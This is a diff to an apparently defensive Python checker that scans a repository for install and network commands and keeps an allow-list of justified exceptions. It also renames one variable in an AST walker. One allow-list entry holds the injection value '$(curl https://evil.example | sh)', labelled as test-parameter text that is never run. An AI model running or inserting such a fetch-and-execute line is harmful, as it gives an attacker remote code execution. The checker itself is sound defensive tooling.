@@ -57,13 +57,15 @@ EXCEPTIONS = {
         "`make matrix` tries the newest versions, which no lock can name; its job has no token but to read"
     ),
     ("tests/release_rehearsal.py", "-m pip install --quiet --upgrade dsql-dr-constructs<=version"): (
-        "the rehearsal of a release is about what its index on loopback gives; files came there by their hash"
+        "a release rehearsal installs what its index on loopback has; files came there by their hash"
     ),
     (
-        "tests/runtime/cluster_peering/test_entries.py",
+        "tests/runtime/cluster_peering/test_pair_parameters.py",
         "$(curl https://evil.example | sh)",
     ): "a parameter's text, not run",
-    ("tests/examples/test_readme.py", "npm install --global aws-cdk"): "the README's words, compared and not run",
+    ("tests/examples/test_readme.py", "npm install --global"): "the README's words, compared and not run",
+    ("tests/examples/test_readme.py", "npm install --global name@CDK_VERSION"): "the same",
+    ("tests/cli/test_command_line.py", 'run pip install "dsql-dr-constructs['): "a message, compared and not run",
 }
 
 
@@ -80,14 +82,14 @@ def commands(path: Path) -> Iterator[str]:
 def in_python(text: str) -> Iterator[str]:
     """Lists, arguments of calls and strings, as words; names for what is computed, and no docstrings or errors."""
     tree = ast.parse(text)
-    silent = {
+    ignored = {
         id(inner)
         for node in ast.walk(tree)
         if isinstance(node, ast.Raise) or (isinstance(node, ast.Expr) and isinstance(node.value, ast.Constant))
         for inner in ast.walk(node)
     }
     for node in ast.walk(tree):
-        if id(node) not in silent and isinstance(node, ast.List | ast.Tuple | ast.Call | ast.Constant | ast.JoinedStr):
+        if id(node) not in ignored and isinstance(node, ast.List | ast.Tuple | ast.Call | ast.Constant | ast.JoinedStr):
             yield from words(node).splitlines()
 
 
